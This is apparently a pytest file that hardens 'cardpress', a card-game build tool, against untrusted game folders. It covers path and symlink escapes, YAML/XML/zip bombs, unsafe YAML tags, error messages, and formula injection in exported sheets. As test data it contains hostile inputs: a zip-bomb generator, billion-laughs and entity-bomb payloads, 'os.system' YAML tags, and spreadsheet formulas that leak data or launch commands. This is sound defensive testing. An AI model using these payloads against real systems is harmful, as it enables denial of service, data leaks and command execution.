"""A game folder from a stranger: paths stay inside it, bombs are refused, every mistake is a
message naming file, line/row, card and field, and nothing wrong is printed with exit 0.

Cases that could hang if the guard failed (a FIFO, ``/dev/zero``) run ``cardpress`` in a
subprocess with a timeout.
"""

from __future__ import annotations

import contextlib
import gc
import io
import json
import os
import re
import signal
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from pathlib import Path

import openpyxl
import pytest
from PIL import Image
from typer.testing import CliRunner

from engine.cards import load_cards
from engine.definitions import load_game
from engine.limits import MAX_COPIES, MAX_DECK_CARDS, MAX_FIELD_CHARS, MAX_TEXT_FILE_BYTES
from pipeline.cli.app import app
from pipeline.scaffold import scaffold

REPO = Path(__file__).resolve().parent.parent
runner = CliRunner()
#: Seconds a subprocess may take before the test calls it a hang (a build takes ~3 s).
HANG_SECONDS = 60


@pytest.fixture
def game(tmp_path):
    return scaffold(tmp_path / "g", "测试")


def _cards(game: Path) -> Path:
    return game / "cards" / "cards.yaml"


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, f"fixture text {old!r} not found"
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def _line_of(path: Path, needle: str) -> int:
    return next(n for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1) if needle in line)


def _no_output(out: Path) -> None:
    assert not out.exists() or not any(out.iterdir()), sorted(out.iterdir())


def _fails(game: Path, *expected: str, commands=("check", "build")) -> str:
    """Each command exits 1 naming every fragment; build writes nothing."""
    out = game.parent / "out"
    text = ""
    for command in commands:
        args = [command, str(game)] + (["--out", str(out)] if command in ("build", "images") else [])
        result = runner.invoke(app, args)
        assert result.exit_code == 1, (command, result.output, result.exception)
        assert "Traceback" not in result.output
        for fragment in expected:
            assert fragment in result.output, (command, fragment, result.output)
        text += result.output
    _no_output(out)
    return text


def _cli(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    """``cardpress ARGS`` in a subprocess: a hang fails the test instead of stalling the run."""
    return subprocess.run([sys.executable, "-c", "from pipeline.cli.app import main; main()", *args],
                          capture_output=True, text=True, timeout=HANG_SECONDS, cwd=cwd or REPO)


def _png_header(width: int, height: int) -> bytes:
    """A PNG whose header claims ``width`` × ``height`` pixels, with one tiny data chunk."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")


# ---------------------------------------------------------------------------- 1. paths stay inside


def test_absolute_art_path_is_refused(game, tmp_path):
    secret = tmp_path / "secret.png"
    Image.new("RGB", (40, 40), "red").save(secret)
    _edit(_cards(game), "  name: 火花\n", f"  name: 火花\n  art: {secret}\n")
    _fails(game, f"cards.yaml, line {_line_of(_cards(game), 'secret.png')}", "card 'spark'", "field 'art'",
           "outside the game folder")


def test_dotdot_art_path_is_refused(game, tmp_path):
    Image.new("RGB", (40, 40), "red").save(tmp_path / "secret.png")
    _edit(_cards(game), "  name: 火花\n", "  name: 火花\n  art: ../../secret.png\n")
    _fails(game, f"line {_line_of(_cards(game), 'secret.png')}", "card 'spark'", "field 'art'", "outside the game folder")


@pytest.mark.parametrize("art, fragment", [
    ('"a\\0b.png"', "cannot contain a NUL character"),
    ("a" * 300 + ".png", "File name too long"),
    ('"' + "a/" * 3000 + '"', "File name too long"),
])
def test_impossible_art_names_are_messages(game, art, fragment):
    _edit(_cards(game), "  name: 火花\n", f"  name: 火花\n  art: {art}\n")
    _fails(game, "cards.yaml, line 21", "card 'spark'", "field 'art'", fragment, commands=("check",))


def test_art_symlink_leading_out_is_refused(game, tmp_path):
    Image.new("RGB", (40, 40), "red").save(tmp_path / "secret.png")
    (game / "art" / "scout.png").symlink_to(tmp_path / "secret.png")  # found by card id, no art: field
    _fails(game, "cards.yaml", "card 'scout'", "field 'art'", "outside the game folder")


def test_art_symlink_inside_the_folder_is_fine(game):
    Image.new("RGB", (40, 40), "red").save(game / "art" / "real.png")
    (game / "art" / "scout.png").symlink_to(game / "art" / "real.png")
    assert runner.invoke(app, ["check", str(game), "--no-render"]).exit_code == 0


def test_card_file_and_folder_symlinks_leading_out_are_refused(game, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "stolen.yaml").write_text("- {id: stolen, type: spell, name: 偷, cost: 1}\n", encoding="utf-8")
    (game / "cards" / "evil.yaml").symlink_to(outside / "stolen.yaml")
    output = _fails(game, "evil.yaml", "card file", "outside the game folder", commands=("check",))
    assert "stolen" not in output.replace("stolen.yaml", "")
    (game / "cards" / "evil.yaml").unlink()
    (game / "decks" / "evil.yaml").symlink_to(outside / "stolen.yaml")
    _fails(game, "evil.yaml", "deck file", "outside the game folder", commands=("check",))
    (game / "decks" / "evil.yaml").unlink()
    # The whole cards/ folder a symlink out of the game: every file in it is refused.
    (game / "cards" / "cards.yaml").rename(outside / "cards.yaml")
    (game / "cards").rmdir()
    (game / "cards").symlink_to(outside)
    _fails(game, "cards.yaml", "outside the game folder", commands=("check",))


def test_fifo_and_dev_zero_are_refused_never_read(game, tmp_path):
    os.mkfifo(game / "cards" / "pipe.yaml")
    os.mkfifo(game / "art" / "pipe.png")
    (game / "cards" / "zero.csv").symlink_to("/dev/zero")
    (game / "art" / "zero.png").symlink_to("/dev/zero")
    _edit(_cards(game), "  name: 火花\n", "  name: 火花\n  art: pipe.png\n")
    _edit(_cards(game), "  name: 灵感\n", "  name: 灵感\n  art: zero.png\n")
    checked = _cli("check", str(game))
    assert checked.returncode == 1, checked.stderr
    err = checked.stderr
    assert "pipe.yaml" in err and "not a regular file" in err
    assert "zero.csv" in err
    assert "card 'spark', field 'art'" in err and "pipe.png" in err
    assert "card 'insight', field 'art'" in err and "zero.png" in err
    assert "Traceback" not in err
    built = _cli("build", str(game), "--out", str(tmp_path / "out"))
    assert built.returncode == 1 and "not a regular file" in built.stderr
    _no_output(tmp_path / "out")


def test_deck_option_may_be_anywhere_but_must_be_a_regular_file(game, tmp_path):
    mine = tmp_path / "my-deck.yaml"  # outside the game folder: the user's own choice
    mine.write_text((game / "decks" / "starter.yaml").read_text(encoding="utf-8"), encoding="utf-8")
    built = runner.invoke(app, ["build", str(game), "--deck", str(mine), "--paper", "a4", "--out", str(tmp_path / "ok")])
    assert built.exit_code == 0, built.output
    os.mkfifo(tmp_path / "fifo.yaml")
    result = _cli("build", str(game), "--deck", str(tmp_path / "fifo.yaml"), "--out", str(tmp_path / "out"))
    assert result.returncode == 1 and "fifo.yaml" in result.stderr and "not a regular file" in result.stderr
    _no_output(tmp_path / "out")


# ---------------------------------------------------------------------------- 2. game id and output paths


@pytest.mark.parametrize("bad_id", ["../../evil", "/tmp/evil", ".hidden", "-rf", "a b", "x" * 65])
def test_game_id_must_be_a_slug(game, bad_id):
    _edit(game / "game.yaml", "id: g\n", f"id: {bad_id!r}\n")
    _fails(game, "game.yaml, line 3", "field 'id'", "is not allowed", commands=("check", "build", "images"))


def test_cjk_game_id_is_fine(game):
    _edit(game / "game.yaml", "id: g\n", "id: 测试_游戏-1\n")
    assert runner.invoke(app, ["check", str(game), "--no-render"]).exit_code == 0


def test_card_id_with_a_trailing_newline_is_not_a_slug(game):
    _edit(_cards(game), "- id: spark\n", '- id: "spark\\n"\n')
    _fails(game, "cards.yaml, line 18", "field 'id'", "an id is up to 64 lower-case letters", commands=("check",))


def test_back_name_must_be_a_slug(game):
    _edit(game / "game.yaml", "    back: default\n", "    back: ../../../evil\n")
    _fails(game, "game.yaml, line", "field 'card_types.unit.back'", "is not allowed")


def test_output_paths_cannot_leave_the_output_folder(game, tmp_path, monkeypatch):
    from engine.paths import UnsafePath
    from pipeline.atomic import output_path

    monkeypatch.chdir(tmp_path)
    result = runner.invoke(app, ["build", str(game), "--paper", "a4"])
    assert result.exit_code == 0, result.output
    assert (tmp_path / "dist" / "g" / "cards-a4.pdf").is_file()
    assert output_path(tmp_path / "dist", "g") == tmp_path / "dist" / "g"
    for escape in ("../escaped", "/etc/escaped", "a/../../escaped"):
        with pytest.raises(UnsafePath):
            output_path(tmp_path / "dist", escape)


# ---------------------------------------------------------------------------- 3. bombs


def test_billion_laughs_yaml_is_refused_quickly(game):
    lines = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 10)]
    (game / "cards" / "bomb.yaml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    started = time.monotonic()
    _fails(game, "bomb.yaml, line", "expands to more than 1,000,000 values", commands=("check",))
    assert time.monotonic() - started < 20


def test_alias_as_a_mapping_key_is_refused(game):
    (game / "cards" / "bomb.yaml").write_text("base: &k [a, b]\n*k : 1\n", encoding="utf-8")
    _fails(game, "bomb.yaml, line 2", "a key must be a plain value", commands=("check",))


def test_yaml_over_the_size_limit_is_refused(game):
    big = game / "cards" / "big.yaml"
    with big.open("w", encoding="utf-8") as fh:
        fh.write("# padding\n" * (MAX_TEXT_FILE_BYTES // 10 + 100_000))  # ~17 MB
    assert big.stat().st_size > 17_000_000
    _fails(game, "big.yaml", "larger than 16 MB", commands=("check",))


def _zip_bomb(path: Path, member_bytes: int = 200 * 1024 * 1024) -> None:
    """A zip whose one member inflates to ``member_bytes`` of zeros (written streaming)."""
    chunk = b"\0" * (1024 * 1024)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            for _ in range(member_bytes // len(chunk)):
                member.write(chunk)


def test_xlsx_zip_bomb_is_refused_before_unpacking(game):
    bomb = game / "cards" / "bomb.xlsx"
    _zip_bomb(bomb)
    assert bomb.stat().st_size < 2_000_000
    _fails(game, "bomb.xlsx", "zip bomb", "cardpress refuses it", commands=("check",))


def test_xlsx_with_an_xml_entity_bomb_is_a_message(game, tmp_path):
    plain = tmp_path / "plain.xlsx"
    book = openpyxl.Workbook()
    book.active["A1"] = "id"
    book.save(plain)
    entities = '<!ENTITY l0 "lollollollollollollollollollol">' + "".join(
        f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10}">' for i in range(1, 10))
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(game / "cards" / "bomb.xlsx", "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = f"<!DOCTYPE worksheet [{entities}]>".encode() + data.replace(b"<t>id</t>", b"<t>&l9;</t>")
            dst.writestr(info, data)
    started = time.monotonic()
    _fails(game, "bomb.xlsx", "cannot read spreadsheet", commands=("check",))
    assert time.monotonic() - started < 20


def test_damaged_xlsx_is_a_message(game):
    (game / "cards" / "broken.xlsx").write_bytes(b"PK\x03\x04 not really a zip")
    (game / "cards" / "text.xlsx").write_text("id,type,name\n", encoding="utf-8")
    output = _fails(game, "broken.xlsx", "not a readable XLSX file", commands=("check",))
    assert "text.xlsx" in output


def test_xlsx_declaring_billions_of_cells_is_read_bounded(game):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["id", "type", "name", "cost"])
    sheet.append(["ember", "spell", "余烬", 1])
    sheet["XFD1048576"] = "far away"  # the sheet now declares A1:XFD1048576, 17 billion cells
    book.save(game / "cards" / "sparse.xlsx")
    started = time.monotonic()
    _fails(game, "sparse.xlsx, row 1048576", "more than 1,000 columns", commands=("check",))
    assert time.monotonic() - started < 20


def test_art_over_the_pixel_limit_names_art_and_card(game):
    (game / "art" / "scout.png").write_bytes(_png_header(10_000, 10_000))  # 100 MP claimed, 100 bytes
    _fails(game, "scout.png", "card 'scout'", "field 'art'", "image is 100 megapixels", "refuses art over 64")


def test_unreadable_art_shared_by_two_cards_names_both(game):
    (game / "art" / "shared.png").write_bytes(b"not an image")
    _edit(_cards(game), "  name: 火花\n", "  name: 火花\n  art: shared.png\n")
    _edit(_cards(game), "  name: 灵感\n", "  name: 灵感\n  art: shared.png\n")
    _fails(game, "shared.png", "card 'spark'", "card 'insight'", "field 'art'", "cannot read image")


@pytest.mark.parametrize("size", [".nan", "0", "-63", ".inf", "5", "1000"])
def test_card_size_must_be_a_sane_number(game, size):
    _edit(game / "game.yaml", "card_size: {width_mm: 63,", f"card_size: {{width_mm: {size},")
    line = _line_of(game / "game.yaml", "card_size")
    _fails(game, f"game.yaml, line {line}", "field 'card_size.width_mm'", "10–400 mm",
           commands=("check", "build", "images"))


def test_impose_refuses_a_zero_card_instead_of_looping():
    from pipeline.impose import LayoutError, choose_layout

    for w in (0.0, float("nan"), -1.0):
        with pytest.raises(LayoutError, match="card side"):
            choose_layout("a4", w, 88)


def test_deck_copy_counts_have_a_hard_ceiling(game):
    deck = game / "decks" / "starter.yaml"
    _edit(deck, "  spark: 2\n", f"  spark: {MAX_COPIES * 1000}\n")
    _fails(game, f"starter.yaml, line {_line_of(deck, 'spark')}", "card 'spark'", "field 'cards'",
           "cardpress refuses more than 1,000 of one card")


def test_deck_size_has_a_hard_ceiling(game):
    deck = game / "decks" / "starter.yaml"
    entries = "".join(f"  c{n}: {MAX_COPIES}\n" for n in range(MAX_DECK_CARDS // MAX_COPIES + 1))
    deck.write_text("name: 大\ncards:\n" + entries, encoding="utf-8")
    _fails(game, "starter.yaml, line 2", "cardpress refuses more than 100,000", commands=("check",))


def test_text_field_over_the_limit_is_refused(game):
    _edit(_cards(game), "  text: 对1个单位造成2点伤害。", "  text: " + "长" * (MAX_FIELD_CHARS + 1))
    _fails(game, f"line {_line_of(_cards(game), '长长长')}", "card 'spark'", "field 'text'", "10,001 characters")


def test_five_thousand_digit_integers_in_yaml_csv_and_xlsx(game):
    _edit(_cards(game), "  cost: 3\n", "  cost: " + "9" * 5000 + "\n")
    (game / "cards" / "more.csv").write_text(
        "id,type,name,cost\nember,spell,余烬," + "7" * 5000 + "\n", encoding="utf-8")
    book = openpyxl.Workbook()
    book.active.append(["id", "type", "name", "cost"])
    book.active.append(["wisp", "spell", "鬼火", "8" * 5000])
    book.save(game / "cards" / "more.xlsx")
    started = time.monotonic()
    _fails(game, f"cards.yaml, line {_line_of(_cards(game), '99999')}", "5000 digits", "more.csv, row 2",
           "card 'ember'", "field 'cost'", "more.xlsx, row 2", "card 'wisp'", commands=("check",))
    assert time.monotonic() - started < 10


# ---------------------------------------------------------------------------- 4. every error is a message


@pytest.mark.parametrize("text, fragment", [
    ("? [a, b]: 1\n", "a key must be a plain value"),
    ("{[1]: x}\n", "a key must be a plain value"),
    ("- id: x\n  type: !!python/object:os.system ls\n", "the tag '!!python/object:os.system' is not allowed"),
    ("- id: x\n  text: !!python/object/apply:os.system [id]\n", "the tag '!!python/object/apply:os.system' is not"),
    ("- id: x\n  text: !!binary aGVsbG8=\n", "the tag '!!binary' is not allowed"),
    ("- id: x\n  text: !!set {a, b}\n", "the tag '!!set' is not allowed"),
    ("- id: x\n  text: 2020-13-45\n", "'2020-13-45' is not a valid timestamp"),
    ("- id: x\n  text: \"a\0b\"\n", "malformed YAML"),
])
def test_yaml_mistakes_are_located_messages(game, text, fragment):
    (game / "cards" / "bad.yaml").write_text(text, encoding="utf-8")
    line = 2 if text.startswith("- id") else 1
    _fails(game, f"bad.yaml, line {line}", fragment, commands=("check",))


def test_unclosed_quote_reports_the_line_where_it_opens(game):
    _edit(_cards(game), '  name: 守卫者\n', '  name: "守卫者\n')
    line = _line_of(_cards(game), '"守卫者')
    assert line < len(_cards(game).read_text(encoding="utf-8").splitlines()) - 5
    _fails(game, f"cards.yaml, line {line}", "closing quote is missing")


def test_a_key_that_is_not_text_is_an_unknown_field(game):
    _edit(_cards(game), "  attack: 1\n", "  attack: 1\n  123: x\n")
    _fails(game, f"line {_line_of(_cards(game), '123: x')}", "card 'scout'", "field '123'", "unknown field")


def test_csv_with_nul_bytes_or_in_no_known_encoding_is_a_message(game):
    # GBK itself loads since issue 12 (tests/test_spreadsheets_zh.py); a byte no encoding reads does not.
    (game / "cards" / "nul.csv").write_bytes(b"id,type,name\nember,spell,a\0b\n")
    (game / "cards" / "gbk.csv").write_bytes("id,type,name,cost\nember,spell,余烬,1\n".encode("gb18030") + b"\xff\n")
    _fails(game, "nul.csv", "NUL bytes", "gbk.csv, line 3", "not UTF-8", "save the file as UTF-8", commands=("check",))


def test_csv_with_a_utf8_bom_loads(game):
    (game / "cards" / "bom.csv").write_bytes("id,type,name,cost\nember,spell,余烬,1\n".encode("utf-8-sig"))
    result = runner.invoke(app, ["check", str(game), "--no-render"])
    assert result.exit_code == 0 and "5 cards" in result.output, result.output


def test_out_that_is_a_file_is_a_message(game, tmp_path):
    target = tmp_path / "a-file"
    target.write_text("mine", encoding="utf-8")
    result = runner.invoke(app, ["build", str(game), "--out", str(target)])
    assert result.exit_code == 1, result.output
    assert "cannot write" in result.output and "a-file" in result.output and "is a file, not a folder" in result.output
    assert target.read_text(encoding="utf-8") == "mine"


@contextlib.contextmanager
def _tmpfs(folder: Path, options: str):
    folder.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(folder)], check=True)
    try:
        yield folder
    finally:
        # A failed write's traceback (kept by CliRunner) may still hold the half-written
        # file open; drop it so the mount is not busy, and detach lazily if it still is.
        gc.collect()
        if subprocess.run(["umount", str(folder)]).returncode != 0:
            subprocess.run(["umount", "-l", str(folder)], check=True)


def test_read_only_out_is_a_message(game, tmp_path):
    with _tmpfs(tmp_path / "ro", "ro,size=1m") as out:
        result = runner.invoke(app, ["build", str(game), "--out", str(out)])
        assert result.exit_code == 1, result.output
        assert "cannot write" in result.output and "read-only" in result.output and "cards-a4.pdf" in result.output
        assert list(out.iterdir()) == []


def test_full_disk_keeps_the_previous_pdf_and_no_temp_file(tmp_path):
    # Backrooms' two PDFs are ~700 KB: a 512 KB disk fills up mid-write.
    with _tmpfs(tmp_path / "small", "size=512k") as out:
        previous = b"%PDF-1.4\n% the previous good build\n%%EOF\n"
        (out / "cards-a4.pdf").write_bytes(previous)
        result = runner.invoke(app, ["build", "backrooms", "--out", str(out)])
        assert result.exit_code == 1, result.output
        assert "the disk is full" in result.output and "cards-" in result.output and "Traceback" not in result.output
        assert (out / "cards-a4.pdf").read_bytes() == previous
        assert sorted(p.name for p in out.iterdir()) == ["cards-a4.pdf"]


@pytest.mark.parametrize("option, value", [
    ("--back-offset", "nan,nan"), ("--back-offset", "inf,0"), ("--back-offset", "1"),
    ("--margin", "nan"), ("--margin", "-1"), ("--bleed", "inf"), ("--bleed", "nan"), ("--gutter", "nan"),
    ("--gutter", "-2"),
])
def test_nonsense_lengths_are_refused(game, option, value):
    out = game.parent / "out"
    result = runner.invoke(app, ["build", str(game), option, value, "--out", str(out)])
    assert result.exit_code == 2, result.output
    assert option in result.output and "Traceback" not in result.output
    _no_output(out)


def test_nonsense_lengths_are_refused_by_the_library_too(game):
    from pipeline.outputs.sheets import build_sheets
    from pipeline.plan import BuildOptionError, BuildOptions

    with pytest.raises(BuildOptionError, match="back-offset"):
        build_sheets(game, BuildOptions(back_offset_mm=(float("nan"), 0.0), out_dir=game.parent / "out"))
    _no_output(game.parent / "out")


def test_a_drawing_error_is_recorded_per_card(game):
    """An error other than a text problem while drawing one card (here: its art) is reported
    with the card, and the other cards are still drawn."""
    from reportlab.pdfgen.canvas import Canvas

    from engine.check import check_game
    from pipeline.art import ArtError
    from pipeline.plan import prepare
    from pipeline.render.forms import CardErrors, paint_forms

    prep = prepare(game, report=check_game(game))
    real = prep.painter.paint

    def paint(c, elements, card, label, size_mm=None):
        if card is not None and card.id == "spark":
            raise ArtError(game / "art" / "spark.png", "cannot read image (truncated)")
        return real(c, elements, card, label=label, size_mm=size_mm)

    prep.painter.paint = paint
    with pytest.raises(CardErrors) as caught:
        paint_forms([Canvas(io.BytesIO())], prep)
    assert len(caught.value.errors) == 1
    assert "card 'spark', field 'art'" in str(caught.value) and "spark.png" in str(caught.value)


def test_os_errors_are_one_line_messages(monkeypatch):
    """An OS error anywhere in a command (here a PermissionError as a PDF is written) reaches the
    root's error boundary: one line naming the reason and the file, exit 1, no traceback."""
    from pipeline.outputs import sheets

    def denied(*args, **kwargs):
        raise PermissionError(13, "Permission denied", "/some/where/cards-a4.pdf")

    monkeypatch.setattr(sheets, "build_sheets", denied)
    result = runner.invoke(app, ["build", "duel"])
    assert result.exit_code == 1
    assert result.output.strip() == ("error: permission denied (/some/where/cards-a4.pdf); "
                                     "nothing half-written was kept")


@pytest.mark.parametrize("name", ["a: b", "# not a comment", "多\n行", '"引号"'])
def test_new_game_names_cannot_break_game_yaml(tmp_path, name):
    folder = scaffold(tmp_path / "g", name)
    assert load_game(folder).name == name
    assert runner.invoke(app, ["check", str(folder), "--no-render"]).exit_code == 0


# ---------------------------------------------------------------------------- 5. no wrong output with exit 0


def test_empty_name_is_missing_not_the_word_none(game):
    _edit(_cards(game), "  name: 火花\n", "  name:\n")
    line = _cards(game).read_text(encoding="utf-8").splitlines().index("  name:") + 1
    _fails(game, f"cards.yaml, line {line}", "card 'spark'", "field 'name'", "missing required field")


def test_blank_name_in_csv_is_missing(game):
    (game / "cards" / "more.csv").write_text("id,type,name,cost\nember,spell,   ,1\n", encoding="utf-8")
    _fails(game, "more.csv, row 2", "card 'ember'", "field 'name'", "missing required field", commands=("check",))


def test_empty_optional_text_is_not_given(game):
    _edit(_cards(game), "  text: 对1个单位造成2点伤害。", "  text:")
    result = runner.invoke(app, ["check", str(game)])
    assert result.exit_code == 0, result.output
    spark = next(c for c in load_cards(load_game(game)) if c.id == "spark")
    assert spark.get("text") is None and "None" not in repr(dict(spark.values))


def test_yaml_1_1_number_quirks_do_not_rewrite_card_text(game):
    _edit(_cards(game), "  text: 对1个单位造成2点伤害。", "  text: 1:30")
    _edit(_cards(game), "  flavor: 先看清道路，再迈出脚步。", "  flavor: 0x1F")
    _edit(_cards(game), "  cost: 3\n", "  cost: 03\n")
    cards = {c.id: c for c in load_cards(load_game(game))}
    assert cards["spark"]["text"] == "1:30"  # YAML 1.1: 90 (base 60)
    assert cards["scout"]["flavor"] == "0x1F"  # YAML 1.1: 31
    assert cards["guardian"]["cost"] == 3  # decimal, as written


def _render_first_card(pdf: Path):
    import pypdfium2 as pdfium

    doc = pdfium.PdfDocument(str(pdf))
    try:
        return doc[0].render(scale=1).to_pil().convert("L")
    finally:
        doc.close()


@pytest.fixture
def empty_art_cache(tmp_path, monkeypatch):
    """A cache with the built fonts but no normalised art: art is converted by this test's code."""
    from pipeline.render.fonts import build_fonts

    fonts = build_fonts()[0].parent
    (tmp_path / "cache" / "fonts").mkdir(parents=True)
    (tmp_path / "cache" / "fonts" / fonts.name).symlink_to(fonts)
    monkeypatch.setenv("CARDPRESS_CACHE", str(tmp_path / "cache"))


def test_16_bit_greyscale_art_prints_its_grey_not_white(game, tmp_path, empty_art_cache):
    import numpy as np

    deck = game / "decks" / "starter.yaml"
    deck.write_text("name: t\ncards:\n  scout: 3\n  guardian: 1\n", encoding="utf-8")
    grey16, grey8 = 0x8080, 0x80  # the same grey in 16 and 8 bits

    def build(name: str, art: Image.Image | None) -> np.ndarray:
        for old in (game / "art").iterdir():
            old.unlink()
        if art is not None:
            art.save(game / "art" / "scout.png")
        out = tmp_path / name
        result = runner.invoke(app, ["build", str(game), "--deck", str(deck), "--paper", "a4", "--out", str(out)])
        assert result.exit_code == 0, result.output
        return np.asarray(_render_first_card(out / "cards-a4.pdf"), dtype=float)

    sixteen = Image.fromarray(np.full((420, 300), grey16, dtype=np.uint16))
    assert sixteen.mode == "I;16"
    printed16 = build("sixteen", sixteen)
    printed8 = build("eight", Image.new("L", (300, 420), grey8))
    placeholder = build("none", None)
    art_area = np.abs(printed8 - placeholder) > 10  # where the art is drawn
    assert art_area.sum() > 10_000
    assert abs(np.median(printed16[art_area]) - grey8) <= 3
    assert np.abs(printed16[art_area] - printed8[art_area]).mean() < 2


@pytest.mark.parametrize("mode", ["P", "LA", "CMYK", "L", "RGBA"])
def test_other_art_modes_convert_to_their_colour(mode):
    from pipeline.art import to_display_mode

    base = Image.new("RGB", (8, 8), (200, 60, 30))
    img = base.convert(mode)
    rgb = to_display_mode(img).convert("RGB").getpixel((4, 4))
    expected = base.convert(mode).convert("RGB").getpixel((4, 4))
    assert rgb == expected and rgb != (255, 255, 255)


# ---------------------------------------------------------------------------- 6. exported sheets


HOSTILE_TEXTS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "@SUM(1)", "-1+2", "+1", "'quoted",
                 "''two", "=cmd|' /C calc'!A0"]
#: A leading tab or CR starts a formula in CSV only; spreadsheet cells are read stripped.
CSV_ONLY_TEXTS = ["\tTAB", "\r=1"]


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
@pytest.mark.parametrize("game_id", ["backrooms", "duel", "ridm", "hostile"])
def test_exported_sheets_hold_no_formulas_and_load_back_equal(game_copy, tmp_path, game_id, suffix):
    if game_id == "hostile":
        folder = scaffold(tmp_path / "hostile", "敌意")
        # JSON strings are YAML double-quoted scalars: every hostile text arrives exactly.
        extra = "".join(f"- id: h{n}\n  type: spell\n  name: 敌{n}\n  cost: 1\n  text: {json.dumps(text)}\n"
                        f"  flavor: {json.dumps(text)}\n"
                        for n, text in enumerate(HOSTILE_TEXTS + (CSV_ONLY_TEXTS if suffix == ".csv" else [])))
        with _cards(folder).open("a", encoding="utf-8") as fh:
            fh.write(extra)
    else:
        folder = game_copy(game_id)
    game = load_game(folder)
    original = load_cards(game)
    if game_id == "hostile":
        texts = {c.get("text") for c in original}
        assert set(HOSTILE_TEXTS) <= texts, texts
    sheet = tmp_path / f"sheet{suffix}"
    result = runner.invoke(app, ["cards", str(folder), str(sheet)])
    assert result.exit_code == 0, result.output
    if suffix == ".xlsx":
        book = openpyxl.load_workbook(sheet)
        formulas = [cell.coordinate for row in book.active.iter_rows() for cell in row if cell.data_type == "f"]
        assert formulas == []
    else:
        import csv

        with sheet.open(encoding="utf-8", newline="") as fh:
            cells = [cell for row in csv.reader(fh) for cell in row]
        numbers = re.compile(r"[+-]?\d+(\.\d+)?")  # a number is not a formula, whatever its sign
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not numbers.fullmatch(c)]
    assert load_cards(game, [sheet]) == original


# ---------------------------------------------------------------------------- 7. killed builds


def test_a_killed_build_leaves_no_temp_file_after_the_next_build(tmp_path):
    out = tmp_path / "out"
    proc = subprocess.Popen([sys.executable, "-c", "from pipeline.cli.app import main; main()", "build", "backrooms",
                             "--out", str(out)], cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + HANG_SECONDS
        temps: list[Path] = []
        while not temps and time.monotonic() < deadline and proc.poll() is None:
            temps = list(out.glob(".*.tmp")) if out.is_dir() else []
            time.sleep(0.005)
        assert temps, "the build finished before its temp file was seen"
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait(timeout=HANG_SECONDS)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == -signal.SIGKILL
    assert list(out.glob(".*.tmp")), "kill -9 cannot clean up: the leftover must still be there"
    game = scaffold(tmp_path / "g", "测试")
    result = runner.invoke(app, ["build", str(game), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert list(out.glob(".*.tmp")) == []
    assert sorted(p.name for p in out.iterdir()) == ["cards-a4.pdf", "cards-letter.pdf", "manifest.json"]


def test_a_live_writers_temp_file_is_left_alone(tmp_path):
    from pipeline.atomic import atomic_write, remove_leftovers

    with atomic_write(tmp_path / "a.pdf") as tmp:
        tmp.write_bytes(b"partial")
        sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)"])
        try:
            theirs = tmp_path / f".b.pdf.{sleeper.pid}.abcd1234.tmp"
            theirs.write_bytes(b"another build, still running")
            dead = tmp_path / ".c.pdf.999999999.abcd1234.tmp"
            dead.write_bytes(b"killed")
            removed = remove_leftovers(tmp_path)
            assert removed == [dead] and theirs.exists() and tmp.exists()
        finally:
            sleeper.kill()
            sleeper.wait()


def test_text_fields_keep_numbers_and_words_as_written(game):
    # YAML reads an unquoted 1.50 as the float 1.5 and 2020-01-01 as a date; a text field must
    # print what the designer typed, not Python's rendering of the parsed value.
    _edit(_cards(game), "  text: 对1个单位造成2点伤害。\n", "  text: 1.50\n")
    _edit(_cards(game), "  name: 灵感\n", "  name: 2020-01-01\n")
    cards = {c.id: c for c in load_cards(load_game(game))}
    assert cards["spark"]["text"] == "1.50"
    assert cards["insight"]["name"] == "2020-01-01"
